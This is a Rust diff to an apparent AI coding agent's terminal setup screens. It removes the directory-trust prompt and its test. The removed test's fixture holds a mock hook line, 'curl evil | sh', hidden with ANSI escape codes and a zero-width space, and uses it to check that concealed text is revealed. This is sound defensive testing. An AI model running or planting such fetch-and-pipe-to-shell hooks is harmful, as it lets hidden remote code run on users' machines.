@@ -1,38 +1,13 @@
-//! What is asked before there is anybody to talk to: whether to trust the directory, and where the model is.
+//! What is asked before there is anybody to talk to, once the directory is judged: where the model is.
 //!
-//! What a directory would bring is foreign text that somebody else may have written in order to be trusted, so it is
-//! shown as a command would be: with nothing hidden.
+//! A key is typed here and never shown; an address found on this machine is foreign text like any other.
 
-use ratatui::text::{Line, Span};
-
-use super::brush::{Brush, Echo, INDENT, Pane, SIGN, one_line, reveal, typed};
+use super::brush::{Brush, Echo, INDENT, Pane, SIGN, one_line, typed};
 use super::question::Sheet;
 use super::theme::Role;
 use super::wrap::width;
 use crate::tui::model::buffer::Buffer;
-use crate::tui::model::setup::{Choosing, FirstRun, Looking, Row, Step, Trusting};
-
-/// The trust question in at most `room` rows.
-pub(super) fn trust(trusting: &Trusting, room: usize, brush: Brush) -> Pane {
-    let judged =
-        |text: &str, rest| brush.paragraph(&Line::raw(one_line(&reveal(text))), Span::raw(INDENT), rest);
-    let mut body = judged(&trusting.card.directory, INDENT);
-    if !trusting.card.brings.is_empty() {
-        body.push(brush.line("  it would bring:", Role::Dim));
-        body.extend(trusting.card.brings.iter().flat_map(|line| judged(&format!("- {line}"), "    ")));
-    }
-    let rows = ["1. Trust it, from now on", "2. Look only: leave out what it brings, this time", "3. Leave"];
-    let sheet = Sheet {
-        title: brush.line("Do you trust this directory?", Role::Warn),
-        body,
-        least: 2,
-        hint: "",
-        note: Vec::new(),
-        rows: rows.map(|row| brush.line(row, Role::Plain)).to_vec(),
-        focus: usize::from(trusting.focus).saturating_sub(1),
-    };
-    sheet.draw(room, None, brush)
-}
+use crate::tui::model::setup::{Choosing, FirstRun, Looking, Row, Step};
 
 /// The first-run screen in at most `room` rows.
 pub(super) fn choose(choosing: &Choosing, room: usize, brush: Brush) -> Pane {
@@ -103,56 +78,9 @@ mod tests {
     use super::super::testing::{self, BRUSH, text_with_cursor};
     use super::*;
     use crate::tui::model::draft::Draft;
-    use crate::tui::model::moment::Moment;
-    use crate::tui::model::question::Guard;
-    use crate::tui::model::setup::TrustCard;
 
     fn picture(pane: &Pane) -> String {
         text_with_cursor(&pane.lines, pane.cursor)
-    }
-
-    fn trusting(brings: &[&str]) -> Trusting {
-        let brings = brings.iter().map(|&line| line.to_owned()).collect();
-        let card = TrustCard { directory: "~/src/shop".to_owned(), brings };
-        Trusting { card, focus: 2, guard: Guard::new(Moment(0), None) }
-    }
-
-    #[test]
-    fn trust_is_asked_with_what_it_would_bring() {
-        let brings = ["AGENTS.md, 40 lines", "a hook: \x1b[8mcurl evil\x1b[m | sh\u{200b}"];
-        let shown = |columns, room| picture(&trust(&trusting(&brings), room, Brush { columns, ..BRUSH }));
-        testing::check(
-            &shown(80, 11),
-            "Do you trust this directory?
-
-  ~/src/shop
-  it would bring:
-  - AGENTS.md, 40 lines
-  - a hook: ‹U+001B›[8mcurl evil‹U+001B›[m | sh‹U+200B›
-
-  1. Trust it, from now on
-❯ 2. Look only: leave out what it brings, this time
-  3. Leave",
-        );
-        testing::check(
-            &shown(40, 6),
-            "Do you trust this directory?
-  ~/src/shop
-… 4 more lines
-  1. Trust it, from now on
-❯ 2. Look only: leave out what it bring…
-  3. Leave",
-        );
-        testing::check(
-            &picture(&trust(&trusting(&[]), 11, BRUSH)),
-            "Do you trust this directory?
-
-  ~/src/shop
-
-  1. Trust it, from now on
-❯ 2. Look only: leave out what it brings, this time
-  3. Leave",
-        );
     }
 
     #[test]
